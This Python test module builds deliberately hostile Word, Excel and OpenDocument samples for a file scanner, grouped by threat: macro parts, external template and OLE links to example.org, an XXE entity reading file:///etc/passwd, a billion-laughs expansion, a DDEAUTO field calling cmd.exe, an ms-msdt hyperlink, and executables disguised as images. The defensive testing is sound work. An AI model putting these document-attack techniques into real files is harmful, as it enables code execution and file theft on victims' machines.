"""Word, Excel and OpenDocument files that run, fetch or hold what they should not."""

import zipfile
from collections.abc import Callable

from followthrough.lib.tests.harmless import (
    EXCEL_TYPE,
    ODF,
    WORD_TYPE,
    XML,
    content_types,
    excel,
    open_document,
    pdf,
    relations,
    word,
    zipped,
)
from followthrough.lib.tests.hostile.case import (
    ARCHIVE,
    DAMAGED,
    DTD,
    EMBEDDED,
    LOCKED,
    MACROS,
    OTHER_OFFICE,
    OUTSIDE,
    PAGE,
    PROGRAM,
    Content,
    group,
)

Build = Callable[[], bytes]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
LAUGHS = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
FETCHING = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
WIDE = '<?xml version="1.0" encoding="UTF-16"?>'
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_EXCEL = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
BINARY_EXCEL = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"


def docx(name: str, content: bytes) -> Build:
    return lambda: zipped(word({name: content}))


def xlsx(name: str, content: bytes) -> Build:
    return lambda: zipped(excel({name: content}))


def odt(name: str, content: bytes) -> Build:
    return lambda: zipped(open_document({name: content}))


def odf_content(inside: str) -> Build:
    content = f"<office:document-content>{inside}</office:document-content>"
    return odt("content.xml", XML + content.encode())


def link(kind: str, target: str) -> Build:
    """A Word file with one relationship that leads outside."""
    return docx("word/_rels/document.xml.rels", relations((kind, target, "External")))


def wide_link() -> bytes:
    part = relations(("attachedTemplate", "http://example.org/a.dotm", "External"))
    return zipped(word({"word/_rels/settings.xml.rels": (WIDE + part.decode()).encode("utf-16")}))


def hidden_link() -> bytes:
    """The target in character references, the mode in capitals."""
    part = relations(("attachedTemplate", "&#104;ttp://example.org/a.dotm", "EXTERNAL"))
    return zipped(word({"word/_rels/settings.xml.rels": part}))


def embedded(name: str, content: Build) -> Build:
    return lambda: zipped(word({f"word/embeddings/{name}": content()}))


def macro_workbook() -> bytes:
    return zipped(excel({"xl/vbaProject.bin": OLE}))


def typed(parts: Callable[..., dict[str, bytes]], kind: str) -> Build:
    return lambda: zipped(parts(kind=kind))


def declares_macros() -> bytes:
    """The document itself is plain, but a part is declared to be a macro."""
    types = content_types("word/document.xml", WORD_TYPE)
    macro = b'<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    types = types.replace(b"</Types>", macro + b"</Types>")
    return zipped(word({"[Content_Types].xml": types, "word/a.bin": b"\1\2\3"}))


def late_mimetype() -> bytes:
    parts = open_document()
    return zipped({"content.xml": parts.pop("content.xml"), **open_document()})


def without(parts: dict[str, bytes], name: str) -> Build:
    return lambda: zipped({key: part for key, part in parts.items() if key != name})


def packed_mimetype() -> bytes:
    parts = open_document()
    kind = parts.pop("mimetype")
    packed = zipped({"Mimetype": kind, **parts}, zipfile.ZIP_DEFLATED)
    return packed.replace(b"Mimetype", b"mimetype")


MACRO_FILES: dict[str, Content] = {
    "a.docx": docx("word/vbaProject.bin", OLE),
    "b.xlsx": macro_workbook,
    "c.docx": docx("word/VBADATA.xml", b"<a/>"),
    "d.docx": typed(word, MACRO_WORD),
    "e.xlsx": typed(excel, MACRO_EXCEL),
    "f.xlsx": typed(excel, BINARY_EXCEL),
    "g.docx": declares_macros,
    "h.docx": docx("word/activeX/activeX1.xml", b"<a/>"),
    "i.xlsx": xlsx("xl/macrosheets/sheet1.xml", b"<a/>"),
    "j.xlsx": xlsx("xl/dialogsheets/sheet1.xml", b"<a/>"),
    "k.docx": docx("customUI/customUI.xml", b"<a/>"),
    "l.odt": odt("Basic/Standard/Module1.xml", b"<a/>"),
    "m.odt": odt("Scripts/python/a.py", b"import os"),
    "n.odt": odt("Dialogs/a.xml", b"<a/>"),
    "o.odt": odf_content('<script:event-listener xlink:href="x"/>'),
    "p.odt": odf_content('<text:a xlink:href="vnd.sun.star.script:a$b?language=Basic">x</text:a>'),
    "q.odt": odf_content('<draw:applet xlink:href="a.class"/>'),
    "r.docx": docx("word/media/image1.svg", b"<svg><script>alert(1)</script></svg>"),
    "s.docx": embedded("a.xlsx", macro_workbook),
}
FETCHING_FILES: dict[str, Content] = {
    "template.docx": link("attachedTemplate", "http://example.org/a.dotm"),
    "share.docx": link("attachedTemplate", "\\\\example.org\\a\\b.dotm"),
    "file.docx": link("attachedTemplate", "file://example.org/a.dotm"),
    "slashes.docx": link("attachedTemplate", "file://///example.org/a.dotm"),
    "wide.docx": wide_link,
    "hidden.docx": hidden_link,
    "object.docx": link("oleObject", "mhtml:http://example.org/a.html!x-usc:http://example.org"),
    "local object.docx": link("oleObject", "file:///C:\\Users\\a.doc"),
    "picture.docx": link("image", "file://example.org/a.png"),
    "frame.docx": link("frame", "http://example.org/"),
    "part.docx": link("subDocument", "http://example.org/a.docx"),
    "chunk.docx": docx("word/_rels/document.xml.rels", relations(("aFChunk", "a.mht", "Internal"))),
    "link.docx": link("hyperlink", "javascript:alert(1)"),
    "tool.docx": link("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "field.docx": docx("word/footer1.xml", b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"),
    "dde.xlsx": xlsx("xl/externalLinks/externalLink1.xml", b'<ddeLink ddeService="cmd"/>'),
    "ole.xlsx": xlsx("xl/externalLinks/externalLink1.xml", b'<oleLink progId="a"/>'),
    "picture.odt": odf_content('<draw:image xlink:href="http://example.org/a.png"/>'),
    "share.odt": odf_content('<draw:object xlink:href="file://example.org/a.odt"/>'),
    "section.odt": odf_content('<text:section-source xlink:href="file:///etc/passwd"/>'),
    "dde.odt": odf_content('<text:dde-connection-decl office:dde-application="soffice"/>'),
    "wide.odt": odt(
        "styles.xml", (WIDE + '<a:image x:href="https://example.org/a"/>').encode("utf-16")
    ),
}
DEFINITIONS: dict[str, Content] = {
    "laughs.docx": docx("word/document.xml", XML + LAUGHS),
    "types.docx": docx("[Content_Types].xml", XML + FETCHING),
    "relations.docx": docx("word/_rels/document.xml.rels", XML + FETCHING),
    "workbook.xlsx": xlsx("xl/workbook.xml", XML + FETCHING),
    "wide.docx": docx("word/document.xml", (WIDE + LAUGHS.decode()).encode("utf-16")),
    "custom.docx": docx("customXml/item1.xml", LAUGHS),
    "drawing.docx": docx("word/media/image1.svg", LAUGHS),
    "border.docx": docx("word/a.xml", XML + b" " * (256 * 1024 - 43) + LAUGHS),
    "laughs.odt": odt("content.xml", XML + LAUGHS),
    "settings.odt": odt("settings.xml", FETCHING),
}
EMBEDDED_FILES: dict[str, Content] = {
    "object.docx": docx("word/embeddings/oleObject1.bin", OLE),
    "object.odt": odt("Object 1", OLE),
    "page.docx": docx("word/embeddings/a.bin", pdf()),
    "equation.xlsx": xlsx("xl/embeddings/oleObject1.bin", OLE),
}
PROGRAMS: dict[str, Content] = {
    "program.docx": docx("word/media/image1.png", b"MZ\x90\0" + bytes(600)),
    "library.xlsx": xlsx("xl/a.dll", b"\1"),
    "script.docx": docx("word/a.js", b"alert(1)"),
    "program.odt": odt("Pictures/a.png", b"\x7fELF" + bytes(600)),
}
NESTED: dict[str, Content] = {
    "zip.docx": docx("word/media/a.png", zipped({"a": b"a"})),
    "embedded zip.docx": embedded("a.xlsx", lambda: zipped({"a.exe": b"MZ"})),
    "twice.docx": embedded("a.docx", embedded("b.docx", lambda: zipped(word()))),
    "7z.docx": docx("word/a.bin", b"7z\xbc\xaf\x27\x1c" + bytes(600)),
    "rar.odt": odt("Pictures/a.png", b"Rar!\x1a\7\1\0" + bytes(600)),
    "gzip.xlsx": xlsx("xl/a.xml.gz", b"\x1f\x8b\x08" + bytes(600)),
}
DAMAGED_FILES: dict[str, Content] = {
    "no document.docx": without(word(), "word/document.xml"),
    "no relations.docx": without(word(), "_rels/.rels"),
    "no content.odt": without(open_document(), "content.xml"),
    "no manifest.odt": without(open_document(), "META-INF/manifest.xml"),
    "two mains.docx": docx(
        "_rels/.rels",
        relations(
            ("officeDocument", "word/document.xml", "Internal"),
            ("officeDocument", "word/other.xml", "Internal"),
        ),
    ),
    "torn.docx": docx("word/_rels/document.xml.rels", b"<Relationships><Relationship"),
    "utf7.docx": docx("word/document.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'),
    "ebcdic.docx": docx("word/document.xml", LAUGHS.decode().encode("cp037")),
    "late.odt": late_mimetype,
    "packed.odt": packed_mimetype,
}
OTHER_KINDS: dict[str, Content] = {
    "slides.docx": typed(
        word,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
    "template.docx": typed(word, WORD_TYPE.replace("document.main", "template.main")),
    "template.xlsx": typed(excel, EXCEL_TYPE.replace("sheet.main", "template.main")),
    "slides.odt": lambda: zipped(open_document(kind="presentation")),
    "template.odt": lambda: zipped(open_document(kind="text-template")),
    "book.odt": lambda: zipped({"mimetype": b"application/epub+zip", "a": b"a"}),
    "form.ods": lambda: zipped({**open_document(), "mimetype": f"{ODF}formula".encode()}),
}

FILES = [
    *group("macros", MACROS, MACRO_FILES),
    *group("reaches out", OUTSIDE, FETCHING_FILES),
    *group("definitions", DTD, DEFINITIONS),
    *group("embedded", EMBEDDED, EMBEDDED_FILES),
    *group("program inside", PROGRAM, PROGRAMS),
    *group("archive inside", ARCHIVE, NESTED),
    *group("page inside", PAGE, {"a.docx": docx("word/a.bin", b"<html><script>x</script>")}),
    *group("damaged document", DAMAGED, DAMAGED_FILES),
    *group("other office", OTHER_OFFICE, OTHER_KINDS),
    *group(
        "locked document",
        LOCKED,
        {"a.odt": odt("META-INF/manifest.xml", b"<manifest:encryption-data/>")},
    ),
]
